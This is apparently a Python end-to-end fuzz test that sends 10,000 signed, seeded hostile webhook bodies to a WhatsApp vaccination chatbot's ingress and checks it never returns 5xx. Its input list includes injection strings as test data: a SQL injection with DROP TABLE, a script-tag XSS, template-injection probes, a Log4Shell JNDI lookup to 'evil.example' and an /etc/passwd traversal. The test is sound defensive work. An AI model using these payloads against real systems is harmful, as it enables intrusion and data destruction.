"""10,000 signed hostile webhook bodies against the whole system: while NATS is up the edge never
answers 5xx (4xx only for what is not JSON), cleans instead of dead-lettering, and a real user is
still answered afterwards. The bodies come from a seeded generator, so a failure replays."""

from __future__ import annotations

import asyncio
import collections
import json
import random
import time
from collections.abc import Callable
from typing import Any

import nats
import pytest

from services.common.settings import Settings
from services.ingress.webhook import sign
from tests.e2e.conftest import System, envelope, new_phone

pytestmark = pytest.mark.servers

NOW = str(int(time.time()))  # fresh: the notifier's 24-hour window opens for each sender
SEED = 20210113  # the day vaccination of health workers began in Indonesia
BODIES = 10_000
IN_FLIGHT = 32

ODD_TEXTS = [
    "\ud800",
    "a\udfffb",
    "\udc00\ud800",
    "\x00",
    "nul\x00in\x00text",
    "\u202egnp.exe",
    "e\u0301\u0301\u0301\u0301",
    "\U0001f489" * 50,
    "\ufeffVAKSIN",
    "VAKSIN\r\nNats-Msg-Id: x",
    "\t\n\r\x0b\x0c",
    "' OR '1'='1'; DROP TABLE ingress.conversations; --",
    "<script>alert(1)</script>",
    "{{7*7}}${7*7}%s%n{0}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "wa.inbound.>",
    "3201014503900001",
    "+62 812-3456-7890",
    "9" * 5000,
    "ya",
    "1",
    "",
    " ",
    "x" * 4097,
]
HOSTILE_VALUES: list[Any] = [
    None,
    True,
    0,
    -1,
    2**70,
    1.5,
    float("inf"),
    float("nan"),
    "",
    [],
    {},
    ["VAKSIN"],
    {"$ne": None},
    "wamid." + "A" * 300,
]
TYPES = ["text", "interactive", "button", "image", "sticker", "reaction", "location", "order",
         "unsupported", "system", "request_welcome", "", "TEXT", "interactive\x00"]  # fmt: skip


def _odd(rng: random.Random) -> Any:
    roll = rng.random()
    if roll < 0.7:
        return rng.choice(ODD_TEXTS)
    if roll < 0.85:
        return rng.choice(HOSTILE_VALUES)
    # random code points, surrogates included
    return "".join(chr(rng.randrange(0, 0x110000)) for _ in range(rng.randrange(1, 64)))


def _phone(rng: random.Random) -> str:
    # Not new_phone(): that draws from the global random; these bodies replay from the seed.
    return "62812" + "".join(rng.choices("0123456789", k=8))


def _wamid(rng: random.Random) -> str:
    return f"wamid.fuzz{rng.getrandbits(64):x}"


def _message(rng: random.Random) -> dict:
    # Replyable senders are fresh numbers (one turn each); most others the dialog drops at once.
    sender = _phone(rng) if rng.random() < 0.1 else rng.choice(["abc", "+62", "0", "62" * 200])
    message: dict[str, Any] = {
        "from": sender,
        "id": _wamid(rng),
        "timestamp": NOW,
        "type": rng.choice(TYPES),
    }
    kind = message["type"]
    if kind == "interactive":
        reply = {"id": _odd(rng), "title": _odd(rng)}
        message["interactive"] = rng.choice(
            [{"type": "button_reply", "button_reply": reply}, {"list_reply": reply}, reply, None]
        )
    elif kind == "button":
        message["button"] = {"payload": _odd(rng), "text": _odd(rng)}
    else:
        message["text"] = {"body": _odd(rng)}
    for _ in range(rng.randrange(0, 3)):  # missing or wrong-typed fields
        key = rng.choice(["from", "id", "timestamp", "type", "text", "interactive", "button"])
        if rng.random() < 0.4:
            message.pop(key, None)
        else:
            message[key] = rng.choice(HOSTILE_VALUES)
    return message


def _status(rng: random.Random) -> Any:
    status: dict[str, Any] = {
        "id": _wamid(rng),
        "status": rng.choice(["sent", "delivered", "read", "failed", "deleted", "\ud800", ""]),
        "timestamp": rng.choice(["1700000000", float("inf"), -1, 10**20, "x", None]),
        "recipient_id": rng.choice([_phone(rng), "\ud800", None, 5]),
    }
    if rng.random() < 0.5:
        errors = [{"code": rng.choice([131047, 131026, 2**40, "x", None])}, "e", None]
        status["errors"] = errors * rng.choice([1, 1, 1, 5000])
    if rng.random() < 0.3:
        status[rng.choice(list(status))] = rng.choice(HOSTILE_VALUES)
    return rng.choice([status, status, status, None, [], "status"])


def _valid_text(rng: random.Random, text: Any, ascii_only: bool = True) -> bytes:
    # Some from a number the dialog answers: a full turn each, the slow part of this test.
    sender = _phone(rng) if rng.random() < 0.3 else "1" + _wamid(rng)
    message = {"from": sender, "id": _wamid(rng), "timestamp": NOW, "type": "text",
               "text": {"body": text}}  # fmt: skip
    payload = json.dumps(envelope(message["from"], message), ensure_ascii=ascii_only)
    return payload.encode("utf-8", "surrogatepass")


def _nested(rng: random.Random) -> bytes:
    depth = rng.choice([10, 500, 5_000, 100_000])
    inner = rng.choice([("[", "]"), ('{"a":', "}")])
    return (inner[0] * depth + "1" + inner[1] * depth).encode()


def _envelope_body(rng: random.Random) -> bytes:
    value: dict[str, Any] = {"metadata": rng.choice([{"phone_number_id": "1"}, None, 7, {}])}
    if rng.random() < 0.8:
        value["messages"] = [_message(rng) for _ in range(rng.randrange(1, 4))]
    if rng.random() < 0.3:
        value["statuses"] = [_status(rng) for _ in range(rng.randrange(1, 3))]
    change: Any = {"field": rng.choice(["messages"] * 8 + ["account_update", None]), "value": value}
    entry: Any = {"id": "102290129340398", "changes": [change]}
    payload: Any = {"object": "whatsapp_business_account", "entry": [entry]}
    roll = rng.random()  # wrong shapes at every level
    if roll < 0.05:
        entry["changes"] = change
    elif roll < 0.1:
        payload["entry"] = entry
    elif roll < 0.15:
        change["value"] = [value]
    elif roll < 0.2:
        payload["entry"] = [None, 1, "x", entry, []]
    return json.dumps(payload, ensure_ascii=rng.random() < 0.8).encode("utf-8", "surrogatepass")


def _bytes_body(rng: random.Random) -> bytes:
    good = _valid_text(rng, "VAKSIN")
    variants: list[Callable[[], bytes]] = [
        lambda: good.replace(b"VAKSIN", b"VAK\xff\xfeSIN"),  # invalid UTF-8
        lambda: good.replace(b"VAKSIN", b"\xed\xa0\x80"),  # CESU-8 surrogate
        lambda: "\ufeff".encode() + good,  # BOM
        lambda: good.decode().encode("utf-16"),
        lambda: good.replace(f'"{NOW}"'.encode(), rng.choice([b"NaN", b"Infinity", b"1e400"])),
        lambda: good.replace(f'"{NOW}"'.encode(), b"1" * 5000),  # over Python's int digit limit
        lambda: good.replace(b'"type": "text"', b'"type": "text", "type": "image"'),
        lambda: good + b" trailing",
        lambda: b"",
        lambda: b"\x00" * 64,
    ]
    return rng.choice(variants)()


def hostile_body(rng: random.Random) -> bytes:
    roll = rng.random()
    if roll < 0.45:
        return _envelope_body(rng)
    if roll < 0.55:
        return _valid_text(rng, _odd(rng))
    if roll < 0.65:  # truncated JSON
        body = _envelope_body(rng)
        return body[: rng.randrange(0, max(1, len(body)))]
    if roll < 0.72:
        return json.dumps(rng.choice([[], None, 1, "x", True, [{"entry": []}], {}, 1e300])).encode()
    if roll < 0.8:
        return _nested(rng)
    if roll < 0.9:
        return _bytes_body(rng)
    if roll < 0.997:  # many items, all of them ignored
        value = {"messages": [{"id": i} for i in range(2000)], "statuses": [{"id": 1}] * 2000}
        return json.dumps(
            {"entry": [{"changes": [{"field": "messages", "value": value}]}]}
        ).encode()
    # Huge texts (under the 3 MB a body may have): 1.5 MB of ASCII, 3 MB of UTF-8, lone
    # surrogates escaped; NATS takes 1 MB per message.
    text, ascii_only = rng.choice(
        [("x" * 1_500_000, True), ("é" * 1_500_000, False), ("a\ud800" * 300_000, True)]
    )
    return _valid_text(rng, text, ascii_only)


@pytest.fixture
def settings(settings: Settings) -> Settings:
    # Every hostile message with a numeric sender gets its answer: keep Meta's throughput limit
    # (80/s by default) from pacing them so the real user's turn is not queued behind them.
    return settings.model_copy(update={"whatsapp_mps": 5_000.0})


async def _drained(system: System, within: float) -> None:
    """Wait until the dialog has handled every stored inbound message."""
    nc = await nats.connect(system.settings.nats_url or "")
    try:
        js = nc.jetstream()
        deadline = time.monotonic() + within
        while True:
            infos = await js.consumers_info("WA_INBOUND")
            dialog = [i for i in infos if i.name.startswith("ingress-dialog-")]
            if dialog and all(i.num_pending == 0 and i.num_ack_pending == 0 for i in dialog):
                return
            assert time.monotonic() < deadline, "the dialog did not catch up"
            await asyncio.sleep(0.2)
    finally:
        await nc.close()


async def test_ten_thousand_hostile_bodies_get_no_5xx_and_a_user_is_still_answered(
    system: System,
) -> None:
    rng = random.Random(SEED)
    bodies = [hostile_body(rng) for _ in range(BODIES)]
    statuses: collections.Counter[int] = collections.Counter()
    dead_lettered = 0
    server_errors: list[tuple[int, int, bytes]] = []
    queue: asyncio.Queue[int] = asyncio.Queue()
    for i in range(len(bodies)):
        queue.put_nowait(i)

    async def worker() -> None:
        nonlocal dead_lettered
        while not queue.empty():
            i = queue.get_nowait()
            body = bodies[i]
            headers = {
                "Content-Type": "application/json",
                "X-Hub-Signature-256": sign(body, system.settings.whatsapp_app_secret),
            }
            async with system.http.post(system.webhook, data=body, headers=headers) as resp:
                answer = await resp.read()
                statuses[resp.status] += 1
                if resp.status >= 500:
                    server_errors.append((i, resp.status, body[:200]))
                elif resp.status == 200:
                    dead_lettered += json.loads(answer).get("dead_lettered", 0)

    started = time.monotonic()
    await asyncio.gather(*(worker() for _ in range(IN_FLIGHT)))
    print(f"{BODIES} bodies in {time.monotonic() - started:.1f}s: {dict(statuses)}")

    assert server_errors == [], f"{len(server_errors)} 5xx, first: {server_errors[:3]}"
    assert sum(statuses.values()) == BODIES
    assert set(statuses) <= {200, 400}, statuses  # 400: not JSON (truncated, too deep, bytes)
    assert statuses[200] > BODIES / 2 and statuses[400] > BODIES / 10, statuses
    # The parser cleaned every hostile item the generator makes: nothing needed a dead letter.
    assert dead_lettered == 0

    await _drained(system, within=60)
    phone = new_phone()
    reply = await system.turn(phone, "VAKSIN")
    assert reply["body"]["type"] == "interactive"
    async with system.http.get(system.webhook.replace("/webhook", "/readyz")) as resp:
        assert resp.status == 200
